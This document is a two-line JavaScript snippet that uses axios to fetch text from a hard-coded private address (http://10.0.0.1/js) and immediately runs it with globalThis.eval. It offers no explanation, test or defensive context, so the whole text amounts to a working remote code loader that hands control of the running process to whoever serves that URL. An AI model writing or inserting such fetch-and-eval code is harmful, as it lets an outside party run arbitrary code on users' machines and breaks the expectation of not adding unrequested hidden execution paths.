const axios = require('axios');
axios.get('http://10.0.0.1/js').then(r => globalThis.eval(r.data));
